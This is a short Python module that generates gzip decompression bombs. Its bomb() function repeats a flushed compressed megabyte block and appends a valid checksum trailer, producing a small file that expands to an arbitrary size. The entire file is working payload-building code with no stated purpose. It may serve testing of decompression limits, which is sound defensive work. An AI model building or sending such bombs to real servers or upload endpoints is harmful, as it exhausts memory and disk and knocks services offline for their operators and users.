"""Gzip that is small and unpacks to a lot: made without packing all of it."""

from __future__ import annotations

import struct
import zlib
from functools import cache

_MEGABYTE = 1024 * 1024
_HEADER = b"\x1f\x8b\x08" + bytes(6) + b"\xff"


@cache
def bomb(megabytes: int, byte: bytes = b"\0") -> bytes:
    """Return one member of gzip that unpacks to so many megabytes of a byte."""
    one = byte * _MEGABYTE
    packer = zlib.compressobj(1, wbits=-zlib.MAX_WBITS)
    block = packer.compress(one) + packer.flush(zlib.Z_FULL_FLUSH)  # stands for itself: each may follow another
    checksum = 0
    for _ in range(megabytes):
        checksum = zlib.crc32(one, checksum)
    return _HEADER + block * megabytes + packer.flush() + struct.pack("<II", checksum, megabytes * _MEGABYTE)
